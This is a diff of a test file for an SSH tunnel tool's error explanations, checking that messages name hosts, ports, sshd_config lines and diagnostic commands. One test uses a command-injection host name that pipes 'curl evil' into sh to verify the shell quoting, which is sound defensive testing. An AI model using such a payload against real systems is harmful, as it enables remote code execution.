@@ -1,21 +1,32 @@
-// The explanation of every error: steps that name the host, port or file concerned.
+// The explanation of single errors: steps with the commands and the lines that help.
 import assert from 'node:assert/strict';
 import { describe, it } from 'mocha';
-import { connectionCodes, failure, finalCodes, retryableCodes } from '../../../src/tunnels/errors/errors';
-import type { ErrorFacts, TunnelError, TunnelErrorCode } from '../../../src/tunnels/errors/errors';
-import { explain } from '../../../src/tunnels/errors/explain';
+import * as inUse from '../../../src/tunnels/errors/addressInUse';
+import {
+  tooManyAuthenticationFailures,
+  authenticationFailed,
+  passwordExpired,
+} from '../../../src/tunnels/errors/auth';
+import type { Attempt } from '../../../src/tunnels/errors/auth';
+import * as connecting from '../../../src/tunnels/errors/connect';
+import { consentNeeded, workspaceUntrusted } from '../../../src/tunnels/errors/consent';
+import { explain } from '../../../src/tunnels/errors/errors';
+import type { TunnelError } from '../../../src/tunnels/errors/errors';
 import type { Circumstances } from '../../../src/tunnels/errors/explanation';
-import * as algorithms from '../../../src/tunnels/errors/algorithms';
-import * as forwarding from '../../../src/tunnels/errors/localListenAndTarget';
+import { forwardingDisabled, remoteListenNotPermitted } from '../../../src/tunnels/errors/forwardingDisabled';
+import * as handshake from '../../../src/tunnels/errors/handshake';
 import * as hostKeys from '../../../src/tunnels/errors/hostKey';
-import * as login from '../../../src/tunnels/errors/auth';
-import * as permission from '../../../src/tunnels/errors/consent';
-import * as reaching from '../../../src/tunnels/errors/connect';
-import * as remoteListening from '../../../src/tunnels/errors/remoteListen';
-import * as targetsHere from '../../../src/tunnels/errors/targetsHere';
+import * as keys from '../../../src/tunnels/errors/key';
+import * as listening from '../../../src/tunnels/errors/localListen';
+import { connectionLost, keepAliveTimeout } from '../../../src/tunnels/errors/lost';
+import { proxyFailed } from '../../../src/tunnels/errors/proxy';
+import { remoteListenRefused } from '../../../src/tunnels/errors/remoteListen';
+import * as targets from '../../../src/tunnels/errors/target';
+import { explainMismatch } from '../../../src/tunnels/ssh/transport/algorithms';
+import { english } from '../../../src/tunnels/util/l10n';
+import { detailOf, messageOf, nextStepOf } from '../../support/errorWords';
+import { checkReadable } from '../../support/readableErrors';
 
-const codes: readonly TunnelErrorCode[] = [...retryableCodes, ...finalCodes, ...connectionCodes];
-const platforms = ['linux', 'darwin', 'win32'];
 const destination = { host: 'staging', user: 'me', port: 2222 };
 const on = (platform: string, extra: Partial<Circumstances> = {}): Circumstances => ({
   platform,
@@ -24,66 +35,51 @@ const on = (platform: string, extra: Partial<Circumstances> = {}): Circumstances
 });
 
 function textOf(error: TunnelError, circumstances: Circumstances): string {
-  const { steps } = explain(error, circumstances);
+  const { steps } = explain(error, circumstances, english);
   return steps.flatMap(({ text, code }) => [text, code ?? '']).join('\n');
 }
 
-describe('the explanation of an error', () => {
-  for (const code of codes) {
-    it(`has steps for ${code} on every platform, with a known destination and without`, () => {
-      for (const platform of platforms) {
-        for (const circumstances of [on(platform), { platform, destination: undefined }]) {
-          const { steps, actions } = explain(failure(code, 'It failed.', 'Fix it.'), circumstances);
-          assert.ok(steps.length > 0 && actions.length > 0);
-          for (const { text, code: command } of steps) {
-            assert.match(text, /^[A-Z"].*[.:]$/s, text);
-            assert.doesNotMatch(`${text}\n${command ?? ''}`, /\bE[A-Z]{5,}\b|undefined|\[object/);
-          }
-        }
-      }
-    });
-  }
-});
-
 const address = { host: 'db.example.org', port: 2022 };
+const db = { host: 'db', port: 5432 };
+const bastion = { host: 'bastion' };
 const key = { type: 'ssh-ed25519', fingerprint: 'SHA256:abc' };
 
 describe('the explanation of an error', () => {
   const cases: readonly (readonly [error: TunnelError, ...named: readonly string[]])[] = [
-    [reaching.hostNotFound('stagign'), 'stagign'],
-    [reaching.connectionRefused(address), 'db.example.org', '2022'],
-    [reaching.connectTimeout(address, 10), 'nc -vz -w 5 db.example.org 2022'],
-    [reaching.hostUnreachable(address), 'db.example.org'],
-    [reaching.connectionLost('bastion'), 'bastion'],
-    [reaching.keepAliveTimeout('bastion', 45), 'bastion', 'serverAliveInterval'],
-    [reaching.serverBusy('bastion'), 'bastion', 'MaxStartups'],
-    [reaching.addressPenalised('bastion'), 'bastion', 'PerSourcePenaltyExemptList'],
-    [reaching.notAnSshServer(address), 'db.example.org', '2022'],
+    [connecting.hostNotFound('stagign'), 'stagign'],
+    [connecting.connectionRefused(address), 'db.example.org', '2022'],
+    [connecting.connectTimeout('tcp', address, 10), 'nc -vz -w 5 db.example.org 2022'],
+    [connecting.hostUnreachable(address), 'db.example.org'],
+    [connectionLost('bastion'), 'bastion'],
+    [keepAliveTimeout('bastion', 45), 'bastion', 'serverAliveInterval'],
+    [handshake.serverBusy('bastion'), 'bastion', 'MaxStartups'],
+    [handshake.addressPenalised('bastion'), 'bastion', 'PerSourcePenaltyExemptList'],
+    [handshake.notAnSshServer(address), 'db.example.org', '2022'],
     [
-      reaching.protocolBroken('bastion', 'sent more than it may'),
+      handshake.protocolBroken('bastion', 'sent more than it may'),
       'bastion',
       'ssh -v',
       'violates the SSH protocol',
     ],
     [
-      reaching.proxyFailed('db:22', 'bastion:22', forwarding.targetNotPermitted('db:22', 'bastion')),
+      proxyFailed('db:22', 'bastion:22', 'notPermitted'),
       'db:22',
       'ssh -v -p 2222 me@staging',
       'AllowTcpForwarding yes',
     ],
-    [algorithms.noCommonAlgorithm('old'), 'old', 'HostKeyAlgorithms +ssh-rsa'],
+    [handshake.noCommonAlgorithm('old'), 'old', 'HostKeyAlgorithms +ssh-rsa'],
     [
-      login.authenticationFailed('me@staging', ['publickey a'], []),
+      authenticationFailed('me@staging', [{ key: 'a' }], { accepts: [], accepted: [], problems: [] }),
       'me@staging',
       'ssh-copy-id -p 2222 me@staging',
     ],
-    [login.passwordExpired('me@staging'), 'me@staging', 'ssh -p 2222 me@staging'],
-    [login.tooManyAuthenticationFailures('me@staging', []), 'me@staging', 'IdentitiesOnly yes'],
-    [login.authenticationCancelled('me@staging', 'a password'), 'me@staging'],
-    [login.keyUnreadable('/k', 'it is damaged', 'Fix it.'), 'ssh-keygen -y -f /k'],
-    [login.keyUnsupported('/k', 'it is odd', 'Fix it.'), 'ssh-keygen -p -f /k'],
-    [login.agentUnavailable('/agent.sock'), '/agent.sock'],
-    [hostKeys.hostKeyUnknown('[db]:2022', key), '[db]:2022', 'ssh-keygen -lf'],
+    [passwordExpired('me@staging'), 'me@staging', 'ssh -p 2222 me@staging'],
+    [tooManyAuthenticationFailures('me@staging', []), 'me@staging', 'IdentitiesOnly yes'],
+    [{ code: 'AuthenticationCancelled', needs: 'password', who: 'me@staging' }, 'me@staging'],
+    [keys.keyUnreadable('/k', { reason: 'notAKeyFile' }), 'ssh-keygen -y -f /k'],
+    [keys.keyUnsupported('/k', { defect: 'notAKey' }), 'ssh-keygen -p -f /k'],
+    [keys.agentUnavailable('/agent.sock'), '/agent.sock'],
+    [hostKeys.hostKeyUnknown('[db]:2022', key, 'unconfirmed'), '[db]:2022', 'ssh-keygen -lf'],
     [
       hostKeys.hostKeyChanged('[db]:2022', key, { ...key, file: '/kh', line: 3 }),
       '/kh, line 3',
@@ -91,36 +87,29 @@ describe('the explanation of an error', () => {
     ],
     [hostKeys.hostKeyRevoked('db', key, '/kh', 3), '/kh, line 3', 'db'],
     [
-      forwarding.addressUsedByTunnel(
-        { host: '127.0.0.1', port: 5432 },
-        { tunnel: 'staging', window: 'shop' },
-      ),
+      inUse.addressUsedByTunnel({ host: '127.0.0.1', port: 5432 }, { tunnel: 'staging', window: 'shop' }),
       '"staging" of the window "shop"',
       'port 5432',
     ],
+    [inUse.addressUsedByTunnel({ path: '/run/db.sock' }, { tunnel: 'staging' }), '"staging"', '/run/db.sock'],
+    [inUse.addressInUse({ host: '127.0.0.1', port: 5432 }), "ss -ltnp 'sport = :5432'"],
     [
-      forwarding.addressUsedByTunnel({ path: '/run/db.sock' }, { tunnel: 'staging' }),
-      '"staging"',
-      '/run/db.sock',
-    ],
-    [forwarding.addressInUse({ host: '127.0.0.1', port: 5432 }), "ss -ltnp 'sport = :5432'"],
-    [
-      forwarding.addressInUse({ host: '127.0.0.1', port: 5432 }, 'another user'),
+      inUse.addressInUse({ host: '127.0.0.1', port: 5432 }, { kind: 'anotherUser' }),
       "sudo ss -ltnp 'sport = :5432'",
     ],
-    [forwarding.addressNotAvailable({ host: '10.9.9.9', port: 1 }), '10.9.9.9:1'],
-    [forwarding.portPermissionDenied({ host: '127.0.0.1', port: 80 }), '80'],
-    [forwarding.forwardingDisabled('bastion'), 'bastion', 'AllowTcpForwarding yes'],
-    [forwarding.targetNotPermitted('db:5432', 'bastion'), 'bastion', 'PermitOpen db:5432'],
-    [forwarding.targetNotPermitted('[::1]:80', 'bastion'), 'PermitOpen [::1]:80'],
-    [forwarding.targetRefused('db:5432', 'bastion'), 'db:5432', 'bastion', "ss -ltnp 'sport = :5432'"],
-    [forwarding.targetNotFound('db:5432', 'bastion'), 'getent hosts db', 'bastion'],
-    [forwarding.targetUnreachable('db:5432', 'bastion'), 'nc -vz -w 5 db 5432', 'bastion'],
-    [forwarding.socketPathTaken('/tmp/s', 'file'), 'rm /tmp/s'],
-    [forwarding.socketFolderMissing('/no/s'), 'ls -ld /no'],
-    [forwarding.targetSocketUnusable('/run/d.sock', 'bastion'), 'ls -l /run/d.sock', 'bastion'],
-    [permission.consentNeeded('staging', false), 'Review'],
-    [permission.workspaceUntrusted('staging'), 'Trust'],
+    [listening.addressNotAvailable({ host: '10.9.9.9', port: 1 }), '10.9.9.9:1'],
+    [listening.portPermissionDenied({ host: '127.0.0.1', port: 80 }), '80'],
+    [forwardingDisabled('bastion'), 'bastion', 'AllowTcpForwarding yes'],
+    [targets.targetNotPermitted(db, 'bastion'), 'bastion', 'PermitOpen db:5432'],
+    [targets.targetNotPermitted({ host: '::1', port: 80 }, 'bastion'), 'PermitOpen [::1]:80'],
+    [targets.targetRefused(db, bastion), 'db:5432', 'bastion', "ss -ltnp 'sport = :5432'"],
+    [targets.targetNotFound(db, bastion), 'getent hosts db', 'bastion'],
+    [targets.targetUnreachable(db, bastion, 'other'), 'nc -vz -w 5 db 5432', 'bastion'],
+    [inUse.socketPathTaken('/tmp/s', 'file'), 'rm /tmp/s'],
+    [listening.socketFolderMissing('/no/s'), 'ls -ld /no'],
+    [targets.targetSocketUnusable({ path: '/run/d.sock' }, bastion), 'ls -l /run/d.sock', 'bastion'],
+    [consentNeeded('staging', 'new'), 'Review'],
+    [workspaceUntrusted('staging'), 'Trust'],
   ];
   for (const [error, ...named] of cases) {
     it(`names ${named.join(', ')} for ${error.code}`, () => {
@@ -132,28 +121,25 @@ describe('the explanation of an error', () => {
   }
 
   it('names the command of the platform on which it is shown', () => {
-    const error = forwarding.addressInUse({ host: '127.0.0.1', port: 5432 });
+    const error = inUse.addressInUse({ host: '127.0.0.1', port: 5432 });
     assert.match(textOf(error, on('darwin')), /lsof -nP -iTCP:5432/);
     assert.match(textOf(error, on('win32')), /netstat -ano \| findstr :5432/);
   });
   it('names the lines of sshd_config for a refused port or socket of the server', () => {
-    const facts: ErrorFacts = { host: 'bastion' };
-    const error = failure('RemoteListenRefused', 'It did not.', 'Fix it.', undefined, facts);
-    const remote = {
-      kind: 'remote',
-      target: { host: 'localhost', port: 3000 },
-      label: 'R',
-      ifPortBusy: 'fail',
-    } as const;
     const port = textOf(
-      error,
-      on('linux', { forward: { ...remote, listen: { bind: undefined, port: 9000 } } }),
+      remoteListenRefused('unknown', { bind: undefined, port: 9000 }, 'bastion'),
+      on('linux'),
     );
     assert.match(port, /PermitListen 9000\nGatewayPorts clientspecified/);
     assert.match(port, /ss -ltnp 'sport = :9000'/);
-    const socket = textOf(error, on('linux', { forward: { ...remote, listen: { path: '/tmp/a b' } } }));
+    const socket = textOf(remoteListenRefused('unknown', { path: '/tmp/a b' }, 'bastion'), on('linux'));
     assert.match(socket, /AllowStreamLocalForwarding yes/);
     assert.match(socket, /ls -l '\/tmp\/a b'/);
+  });
+  it('names no port of the server when any free one was requested', () => {
+    const text = textOf(remoteListenRefused('unknown', { bind: undefined, port: 0 }, 'bastion'), on('linux'));
+    assert.match(text, /PermitListen any/);
+    assert.doesNotMatch(text, /sport = /);
   });
 });
 
@@ -167,23 +153,26 @@ describe('the explanation of a failed remote forward', () => {
       ifPortBusy: 'fail',
     } as const;
     for (const error of [
-      targetsHere.targetHereRefused('localhost:3000'),
-      targetsHere.targetHereNotFound('web:3000'),
-      targetsHere.targetHereUnreachable('10.0.0.1:3000'),
-      targetsHere.targetHereSocketUnusable('/tmp/s'),
+      targets.targetRefused({ host: 'localhost', port: 3000 }, 'thisMachine'),
+      targets.targetNotFound({ host: 'web', port: 3000 }, 'thisMachine'),
+      targets.targetUnreachable({ host: '10.0.0.1', port: 3000 }, 'thisMachine', 'other'),
+      targets.targetSocketUnusable({ path: '/tmp/s' }, 'thisMachine'),
     ]) {
-      const { steps } = explain(error, on('darwin', { forward }));
+      const { steps } = explain(error, on('darwin', { forward }), english);
       assert.ok(
         steps.every(({ side }) => side === 'here'),
         error.code,
       );
     }
-    const refused = textOf(targetsHere.targetHereRefused('localhost:3000'), on('darwin', { forward }));
+    const refused = textOf(
+      targets.targetRefused({ host: 'localhost', port: 3000 }, 'thisMachine'),
+      on('darwin', { forward }),
+    );
     assert.match(refused, /^lsof -nP -iTCP:3000/m);
   });
   it('names PermitListen for a listener that the server does not permit', () => {
     const listen = { bind: undefined, port: 9000 };
-    const error = remoteListening.remoteListenNotPermitted(listen, 'bastion');
+    const error = remoteListenNotPermitted(listen, 'bastion');
     const forward = { kind: 'remote', listen, target: undefined, label: 'R', ifPortBusy: 'fail' } as const;
     assert.match(textOf(error, on('linux', { forward })), /PermitListen 9000/);
   });
@@ -191,8 +180,72 @@ describe('the explanation of a failed remote forward', () => {
 
 describe('a command in an explanation', () => {
   it('quotes the text of others as one word', () => {
-    const nasty = reaching.hostNotFound("x;curl evil|sh'");
+    const nasty = connecting.hostNotFound("x;curl evil|sh'");
     assert.match(textOf(nasty, on('linux')), /^getent hosts 'x;curl evil\|sh'\\'''$/m);
     assert.match(textOf(nasty, on('win32')), /^nslookup "x;curl evil\|sh'"$/m);
+  });
+});
+
+describe('the words of an error', () => {
+  it('suggest another port for a port in use, and another path for a socket in use', () => {
+    const holder = { tunnel: 'staging' };
+    assert.match(nextStepOf(inUse.addressUsedByTunnel(address, holder)), /another local port/);
+    assert.match(nextStepOf(inUse.addressUsedByTunnel({ path: '/tmp/s' }, holder)), /another path/);
+  });
+
+  it('suggest a step after a failed login that fits what was tried and what the server accepts', () => {
+    const next = (tried: readonly Attempt[], accepts: readonly string[]): string =>
+      nextStepOf(authenticationFailed('me@db:22', tried, { accepts, accepted: [], problems: [] }));
+    const locked = { key: 'a', wrongPassphrase: true } as const;
+    assert.match(next([{ method: 'password' }], []), /enter the correct password/);
+    assert.match(next([locked], []), /correct passphrase/);
+    assert.match(next([locked, { key: 'b' }], []), /ssh-copy-id/);
+    assert.match(next([], ['publickey']), /ssh-keygen/);
+    assert.match(next([], ['password']), /PasswordAuthentication/);
+    assert.match(next([], ['gssapi-with-mic']), /Ask the administrator/);
+  });
+
+  it('say what the server accepts, what it has accepted, and why keys can not be used', () => {
+    const error = authenticationFailed('me@db:22', [{ key: 'a' }], {
+      accepts: ['password', 'gssapi-with-mic'],
+      accepted: [{ key: 'b', inAgent: true }],
+      problems: [keys.keyUnreadable('/k', { reason: 'othersCanRead', mode: '0644' })],
+    });
+    assert.equal(
+      detailOf(error),
+      'The server accepts: password, gssapi-with-mic. Already accepted: b (agent). ' +
+        'Kerberos (gssapi-with-mic) is not supported. ' +
+        `The key /k can't be used: other users can read it (mode 0644), so it is ignored, as in ssh. ` +
+        'Run "chmod 600 /k" in a terminal.',
+    );
+  });
+});
+
+describe('the error about no common algorithm', () => {
+  const of = (what: string, remote: string): TunnelError =>
+    handshake.noCommonAlgorithm('old', undefined, explainMismatch({ what, local: '', remote }));
+
+  it('suggests a line of ssh_config when we know an algorithm of the server but do not offer it', () => {
+    const error = of('Host key format', 'ssh-dss,ssh-rsa');
+    assert.match(messageOf(error), /no host key type in common: the server offers only ssh-dss, ssh-rsa\./);
+    // And not ssh-dss, which OpenSSH no longer supports.
+    assert.match(nextStepOf(error), /^Add "HostKeyAlgorithms \+ssh-rsa" to the Host block/);
+    assert.match(textOf(error, on('linux')), /^Host staging\n {4}HostKeyAlgorithms \+ssh-rsa$/m);
+    checkReadable(error);
+  });
+  it('suggests a line of sshd_config when we know no algorithm of the server', () => {
+    const error = of('KEX method', 'mlkem768x25519-sha256,a,b,c,d,kex-strict-s-v00@openssh.com');
+    assert.match(messageOf(error), /only mlkem768x25519-sha256, a, b and 2 more\./);
+    assert.match(textOf(error, on('linux')), /^KexAlgorithms \+curve25519-sha256$/m);
+    checkReadable(error);
+  });
+  it('leaves out malformed names of algorithms', () => {
+    const error = of('KEX method', `\u202e,a b,${'x'.repeat(65)},zlib,\x1b[2J,\u00e9,good`);
+    assert.match(messageOf(error), /the server offers only zlib, good\./);
+    checkReadable(error);
+  });
+  it('suggests no single line for compression', () => {
+    const error = of('C->S compression', 'zlib');
+    assert.ok(error.code === 'NoCommonAlgorithm' && error.reason === 'unknown');
   });
 });
